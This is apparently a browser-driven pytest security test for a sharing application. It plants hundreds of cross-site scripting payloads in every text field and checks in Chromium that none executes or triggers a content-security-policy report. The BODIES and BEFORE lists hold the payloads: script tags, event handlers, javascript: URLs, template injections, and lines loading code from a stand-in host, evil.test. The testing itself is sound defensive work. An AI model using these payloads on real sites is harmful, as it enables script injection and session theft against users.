"""Does anything run that somebody has written into a field? Scripts in every text field, every page in a browser.

Pages are drawn by the site and opened in Chromium under the site's own headers. What is written calls `ran()`, in
every way in which a text can become a script; nothing may call it, and nothing be reported against the policy.

*Source:* bars B3 and B4 of reference/security.md; design/sharing.md 5.
"""

import re
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from threading import Thread

import pytest

from commonground.sharing.actions import attachments, groups, programs, renditions
from commonground.sharing.rules.feedback import Said
from commonground.sharing.rules.renditions import PARTS, packed
from tests.figures import counts
from tests.security.sharing_scene import answer
from tests.security.test_sharing_crawl import filled, routes
from tests.sharing.shared_things import agreed, cleared, role, to, version, written

FETCHED = re.compile(rb'(?:href|src)="(/static/[^"?]+)"')
BODIES = (
    "<script>ran()</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<body onload=ran()>",
    "<iframe srcdoc='<script>ran()</script>'>",
    "<iframe src=javascript:ran()>",
    "<a href=javascript:ran()>x</a>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()>",
    "<object data=javascript:ran()>",
    "<embed src=javascript:ran()>",
    "<form action=javascript:ran()><button>x</button>",
    "<meta http-equiv=refresh content='0;javascript:ran()'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<base href=//evil.test/>",
    "<math href=javascript:ran()>x</math>",
    "<p style='background:url(//evil.test/x)'>x</p>",
    "<template><img src=x onerror=ran()></template>",
    "javascript:ran()",
    "{{ran()}}",
    "${ran()}",
)
BEFORE = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    '" onmouseover=ran() x="',
    "' autofocus onfocus=ran() x='",
    "</option></select>",
    "</h1>",
    '\\";ran();//',
    "';ran();//",
    "`;ran();//",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\u2028",
    "＜script＞ran()＜/script＞",
)
WATCH = """
window.faults = []
window.ran = () => window.faults.push('ran')
for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => window.faults.push(name)
document.addEventListener('securitypolicyviolation', e => window.faults.push(e.violatedDirective + ' ' + e.blockedURI))
"""
AN_ITEM = 10  # texts that one item carries at once, beside one for each short field


def payloads(count):
    """Give so many texts, spread over all that can be made."""
    every = [before + body for before, body in product(BEFORE, BODIES)]
    assert len(every) == 500
    return every[:: len(every) // count][:count]


@pytest.fixture
def planted(cast):
    """Items, files, groups, programs and answers in whose every text stands something that wants to run."""
    texts = payloads(counts(20, 500))
    for key in ("thornbury", "ashdown", "whitlock"):
        cleared(cast, key)
        role(cast, key, "custodian")
    agreement = agreed(cast, "Aldermouth Police", "Marlgate Centre")
    made = []
    for n in range(0, len(texts), AN_ITEM):
        some = texts[n : n + AN_ITEM]
        short = iter(some * 4)
        parts = {part.key: "\n".join(some) for part in PARTS}
        release = to(cast, "Marlgate Centre", agreement)
        item = written(
            cast,
            version(next(short), release, kind="full", personal=True, text="\n".join(some), fields=packed(parts)),
            version(next(short), to(cast, "Marlgate Centre", agreement), text=next(short)),
        )
        one = item.renditions.get(place=1)
        attachments.attach(actor=cast.actor("thornbury"), rendition=one, caption=next(short), content=b"x\n")
        renditions.challenge(actor=cast.actor("whitlock"), rendition=one, reason=next(short))
        answer(cast, "whitlock", one, Said.OUTCOME, "\n".join(some))
        kept = groups.begin(actor=cast.actor("ashdown"), name=f"{n} {next(short)}"[:200])
        entry = groups.add(actor=cast.actor("ashdown"), group=kept, organisation=cast.organisation["Marlgate Centre"])
        access = None
        if len(made) < 9:
            access, _ = programs.make(actor=cast.actor("thornbury"), use="read", name=next(short)[:100], days=9)
        made.append(
            {
                "shared": [item.ref], "rendition": [one.ref], "release": [one.releases.get().ref],
                "file": [one.attachments.get().ref], "circle": [kept.ref], "entry": [entry.ref],
                **({"access": [access.ref]} if access else {}),
            }
        )  # fmt: skip
    return texts, made


def pages(made):
    """The addresses to open: every one that holds an item's ids for each item, and every other once."""
    own = [route for route in routes() if route.startswith(("shared/", "feedback/"))]
    with_ids = [filled(route, held) for held in made for route in own if "<id:shared>" in route]
    once = [filled(route, made[0]) for route in own if "<id:shared>" not in route]
    # Each item is opened whole; its forms show the same texts, so each form is met on some item
    wanted = [path for n, path in enumerate(with_ids) if path.count("/") == 3 or n % len(made) == 0]
    return list(dict.fromkeys([*once, *wanted]))


def drawn(site, paths):
    """Let the site draw each page that it gives, and what the pages fetch, each with its own headers."""
    found = {}
    for path in paths:
        got = site.get(path)
        if got.status_code == 200 and "/file/" not in path:
            found[path] = got
    fetched = {one.decode() for got in found.values() for one in FETCHED.findall(got.content)}
    every = {**found, **{path: site.get(path) for path in fetched}}
    return found, {path: (got.status_code, dict(got.headers), whole(got)) for path, got in every.items()}


def whole(got):
    """Give the bytes of an answer."""
    return b"".join(got.streaming_content) if got.streaming else got.content


@contextmanager
def served(answers):
    """Serve what was drawn to the browser of this machine, and nothing else; gives the address."""

    class Server(BaseHTTPRequestHandler):
        def do_GET(self):
            status, headers, body = answers.get(self.path, (404, {}, b""))
            self.send_response(status)
            for name, value in headers.items():
                if name.lower() != "content-length":
                    self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Server)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.browser
@pytest.mark.parametrize("key", ["thornbury", "whitlock", "ashdown"])
def test_nothing_that_somebody_has_written_runs_in_any_page(cast, planted, client_of, chromium, figure, key):
    texts, made = planted
    faults, shown = [], 0
    opened, answers = drawn(client_of(cast.person[key]), pages(made))
    with served(answers) as address, chromium.new_context() as window:
        window.add_init_script(WATCH)
        page = window.new_page()
        page.on("dialog", lambda dialog: (faults.append(f"dialog at {page.url}"), dialog.dismiss()))
        page.on("console", lambda said: faults.append(said.text) if "Content Security Policy" in said.text else None)
        for path in opened:
            page.goto(address + path, wait_until="load")
            faults += [f"{path}: {fault}" for fault in page.evaluate("window.faults")]
            shown += "ran()" in page.content()
    figure(f"scripts planted in every text field, opened as {key}", len(texts), bar="500")
    figure(f"pages on which they stood, as {key}", shown)
    figure(f"that ran, or were reported, as {key}", len(faults), bar="0")
    assert not faults, "\n".join(faults[:10])
    assert shown > len(made), "every item was opened with its texts"
